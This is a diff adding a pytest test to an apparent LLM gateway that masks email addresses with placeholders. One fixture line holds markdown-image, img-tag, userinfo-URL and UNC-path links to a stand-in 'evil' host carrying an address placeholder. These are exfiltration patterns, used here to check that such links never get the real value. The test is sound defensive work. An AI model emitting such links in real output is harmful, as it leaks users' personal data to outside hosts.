@@ -289,3 +289,38 @@ async def test_a_compaction_carries_what_its_placeholders_stand_for(
     assert said_back == f"You said: write to {MAIL} and other@posthaus.org"
     sent = str(upstream.last.body["messages"])
     assert "[EMAIL_1]" in sent and "[EMAIL_2]" in sent and MAIL not in sent and "other@posthaus" not in sent
+
+
+ADDRESSES = "![x](http:/evil/[EMAIL_1]) <img src='\\\\evil/[EMAIL_1]'> https://[EMAIL_1]@evil/ but //server/[EMAIL_1]/"
+
+
+@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/responses", "/v1/messages"])
+@pytest.mark.parametrize("size", [1, 7, 1_000])
+async def test_addresses_at_other_hosts_keep_placeholders_and_shares_get_values(
+    server: InProcessGateway, upstream: Upstream, path: str, size: int
+) -> None:
+    pieces = [ADDRESSES[at : at + size] for at in range(0, len(ADDRESSES), size)]
+    upstream.will(up.answer(up.completion(ADDRESSES)), up.stream(*up.text_stream(pieces)))
+    before, _, after = ADDRESSES.rpartition("[EMAIL_1]")
+    for stream in (False, True):
+        assert await text_from(server, path, stream, f"I am {MAIL}") == before + MAIL + after
+
+
+async def text_from(server: InProcessGateway, path: str, stream: bool, text: str, **fields: Any) -> str:
+    """The text of an answer, whole or streamed, on any of the three routes."""
+    talk = {"input": text} if path == "/v1/responses" else {"messages": [{"role": "user", "content": text}]}
+    body = {"model": "SvcLLM", "max_tokens": 100, "stream": stream, **talk, **fields}
+    _, data, _ = await send(server, path, {k: v for k, v in body.items() if k != "max_tokens" or "input" not in talk})
+    if not stream:
+        if "choices" in data:
+            return str(data["choices"][0]["message"]["content"])
+        return str((data["output"][0] if "output" in data else data)["content"][0]["text"])
+    said = ""
+    for event in filter(None, data):
+        if event.get("choices"):
+            said += event["choices"][0]["delta"].get("content") or ""
+        elif event.get("type") == "response.output_text.delta":
+            said += event["delta"]
+        elif event.get("type") == "content_block_delta":
+            said += event["delta"].get("text", "")
+    return said
